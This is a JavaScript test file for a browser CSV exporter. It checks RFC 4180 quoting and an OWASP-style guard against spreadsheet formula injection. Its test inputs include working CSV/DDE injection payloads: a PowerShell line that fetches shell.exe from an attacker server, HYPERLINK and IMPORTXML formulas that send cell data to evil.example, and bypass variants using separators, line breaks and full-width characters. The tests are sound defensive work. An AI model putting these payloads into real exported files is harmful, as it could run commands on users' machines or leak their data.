// CSV is made in the browser; these check the RFC 4180 quoting and the formula-injection guard.
// The guard follows OWASP's CSV Injection page: https://owasp.org/www-community/attacks/CSV_Injection
// (cells starting with = + - @ tab CR LF are prefixed with '; a field separator or quote in the
// middle of a text can start a new cell, so those count too; guarded cells are quoted, quotes doubled).
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell, toCsv, isFormulaLike } from '../src/csv.js';

/** What a guarded cell must look like: quoted, prefixed with ', embedded quotes doubled. */
const guarded = (text) => `"'${text.replace(/"/g, '""')}"`;

describe('OWASP CSV Injection', () => {
  test("OWASP's own two examples come out exactly as the page shows", () => {
    assert.equal(csvCell('=1+2";=1+2'), `"'=1+2"";=1+2"`);
    assert.equal(csvCell(`=1+2'" ;,=1+2`), `"'=1+2'"" ;,=1+2"`);
  });

  // The classic payloads OWASP's page and its references describe (DDE, HYPERLINK, SUM, each leading character).
  const payloads = [
    '=1+2',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=10+20+cmd|\' /C calc\'!A0',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "\n=cmd|' /C calc'!A0",
    '+44 113 222 3333',
    '-0.4',
    '@mention',
  ];
  for (const payload of payloads) {
    test(`a cell starting with ${JSON.stringify(payload[0])} is prefixed and quoted: ${JSON.stringify(payload)}`, () => {
      assert.equal(csvCell(payload), guarded(payload));
    });
  }

  // Bypasses: the dangerous character is not first, but starts a new cell once a spreadsheet splits the text.
  const bypasses = [
    ["ok;=cmd|' /C calc'!A0", 'after a semicolon (the separator where Excel is set to ;)'],
    ["ok,=cmd|' /C calc'!A0", 'after a comma'],
    ["ok;+cmd|' /C calc'!A0", 'plus after a semicolon'],
    ["ok,-2+3+cmd|' /C calc'!A0", 'minus after a comma'],
    ["ok;@SUM(1+9)*cmd|' /C calc'!A0", 'at after a semicolon'],
    ["ok;\t=cmd|' /C calc'!A0", 'tab after a semicolon'],
    ["ok,\r=cmd|' /C calc'!A0", 'carriage return after a comma'],
    ["first line\n=cmd|' /C calc'!A0", 'after a line feed inside the cell'],
    ["first line\r\n=cmd|' /C calc'!A0", 'after CRLF inside the cell'],
    ["first line\r+cmd|' /C calc'!A0", 'after a carriage return inside the cell'],
    ['ok"=1+2', 'after a double quote'],
    ["ok'=1+2", 'after a single quote'],
    ["＝cmd|' /C calc'!A0", 'a full-width equals sign first'],
    ["＋cmd|' /C calc'!A0", 'a full-width plus first'],
    ["－2+3+cmd|' /C calc'!A0", 'a full-width minus first'],
    ["＠SUM(1+9)*cmd|' /C calc'!A0", 'a full-width at sign first'],
    ["ok;＝cmd|' /C calc'!A0", 'a full-width equals sign after a semicolon'],
    ["ok,＋1+2", 'a full-width plus after a comma'],
    ["line\n＠SUM(1)", 'a full-width at sign after a line break'],
  ];
  for (const [text, why] of bypasses) {
    test(`bypass: ${why}`, () => {
      assert.ok(isFormulaLike(text));
      assert.equal(csvCell(text), guarded(text));
    });
  }

  test('ordinary text is left alone (quoted only when RFC 4180 or a ; separator needs it)', () => {
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell('Young people not in education, employment or training'), '"Young people not in education, employment or training"');
    assert.equal(csvCell('a;b'), '"a;b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('line\nbreak'), '"line\nbreak"');
    assert.equal(csvCell('2025/26 Q2'), '2025/26 Q2');
    assert.equal(csvCell('Red: 9.5% is 1.5 points above the 8% target'), 'Red: 9.5% is 1.5 points above the 8% target');
    assert.equal(csvCell('Worsening: 0.4 in 2025, down 0.2 from 0.6 in 2024.'), '"Worsening: 0.4 in 2025, down 0.2 from 0.6 in 2024."');
    assert.equal(csvCell('e-mail a+b@x.example'), 'e-mail a+b@x.example', 'the characters are harmless in the middle of a cell');
    assert.equal(csvCell(' padded '), '" padded "');
    assert.equal(csvCell(''), '');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(undefined), '');
  });
});

describe('numbers stay numbers', () => {
  test('a number is written as a number, negative or not, and never prefixed', () => {
    assert.equal(csvCell(-0.4), '-0.4');
    assert.equal(csvCell(-3.2), '-3.2');
    assert.equal(csvCell(0), '0');
    assert.equal(csvCell(9.5), '9.5');
    assert.equal(csvCell(1e21), '1e+21');
    assert.equal(csvCell(Number.NaN), '');
    assert.equal(csvCell(Number.POSITIVE_INFINITY), '');
  });

  test('what decides is the type in the data, not how the text looks', () => {
    assert.equal(csvCell(-0.4), '-0.4', 'a change of -0.4 as a number');
    assert.equal(csvCell('-0.4'), `"'-0.4"`, 'the same characters as text are guarded');
    assert.equal(csvCell('+1'), `"'+1"`);
  });

  test('booleans are yes or no', () => {
    assert.equal(csvCell(true), 'yes');
    assert.equal(csvCell(false), 'no');
  });
});

test('CSV rows end with CRLF, keep column order, and guard headers and cells alike', () => {
  const csv = toCsv([
    { header: 'Code', value: (r) => r.code },
    { header: 'Change', value: (r) => r.change },
    { header: 'Note', value: (r) => r.note },
  ], [
    { code: 'A', change: -0.4, note: "ok;=cmd|' /C calc'!A0" },
    { code: 'B,C', change: 1.5, note: null },
  ]);
  assert.equal(csv, `Code,Change,Note\r\nA,-0.4,"'ok;=cmd|' /C calc'!A0"\r\n"B,C",1.5,\r\n`);
  assert.equal(toCsv([{ header: '=Header', value: () => 1 }], []), `"'=Header"\r\n`);
});
